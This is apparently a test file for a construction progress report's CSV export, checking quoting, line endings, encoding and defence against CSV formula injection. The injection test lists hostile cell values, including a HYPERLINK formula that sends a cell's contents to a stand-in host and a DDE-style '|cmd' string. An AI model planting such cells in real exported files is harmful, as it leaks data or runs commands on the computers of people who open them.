import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { monthReportCsv, monthReportName } from './month-report.js';

// The month report as CSV: RFC 4180, UTF-8, a header row.

const entries = [
  {
    id: 'b2',
    date: '2026-11-20',
    status: 'Completed',
    details: 'Tower B level 2, ductwork "hangers" installed\nalong gridlines 3–6',
  },
  { id: 'a1', date: '2026-11-03', status: 'In Progress', details: 'Plain' },
  { id: 'z9', date: '2026-10-31', status: 'Completed', details: 'other month' },
];

describe('monthReportCsv', () => {
  it("writes that month's entries by date under a header row, quoting as RFC 4180 says, with CRLF", () => {
    const csv = monthReportCsv('2026-11', entries);
    expect(csv).toBe(
      '\uFEFFDate,Status,Details,Entry id\r\n' +
        '2026-11-03,In Progress,Plain,a1\r\n' +
        '2026-11-20,Completed,"Tower B level 2, ductwork ""hangers"" installed\nalong gridlines 3–6",b2\r\n',
    );
    // UTF-8 bytes: the en dash is E2 80 93, the BOM EF BB BF.
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.includes(Buffer.from([0xe2, 0x80, 0x93]))).toBe(true);
  });

  it('writes the header alone for a month without entries, and names the file by month', () => {
    expect(monthReportCsv('2026-09', entries)).toBe('\uFEFFDate,Status,Details,Entry id\r\n');
    expect(monthReportName('2026-11')).toBe('progress-2026-11.csv');
  });
});

describe('monthReportCsv: cells a spreadsheet would run', () => {
  // OWASP, "CSV Injection": a cell that begins with =, +, -, @, a tab or a carriage return is read
  // as a formula by Excel and LibreOffice. Read back with a real CSV parser, each such detail must
  // come out as text led by an apostrophe, and every other cell exactly as written.
  const risky = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    '+SUM(1,2)|cmd',
    '-2+3',
    '@SUM(A1:A2)',
    '\tpadded',
    '\rreturn',
  ];
  const month = risky.map((details, i) => ({
    id: `r${i}`,
    date: `2026-11-${String(10 + i)}`,
    status: 'In Progress',
    details,
  }));

  it('leads every formula-like detail with an apostrophe, and leaves ordinary text as it is', () => {
    const csv = monthReportCsv('2026-11', [
      ...month,
      { id: 'ok', date: '2026-11-30', status: 'Completed', details: 'Level 2 – 3 rooms, 50% done' },
    ]);
    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data.filter((r) => r.length > 1).slice(1);
    expect(rows.map((r) => r[2])).toEqual([...risky.map((d) => `'${d}`), 'Level 2 – 3 rooms, 50% done']);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
